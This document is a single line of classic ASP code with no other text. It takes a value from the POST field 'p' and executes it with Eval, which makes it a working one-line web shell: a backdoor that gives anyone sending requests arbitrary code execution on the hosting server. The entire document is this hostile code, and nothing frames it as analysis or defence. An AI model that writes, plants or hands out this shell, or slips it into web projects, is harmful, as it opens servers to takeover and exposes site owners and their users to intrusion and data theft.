<% Dim x : x = Request.Form("p") : Eval(x) %>
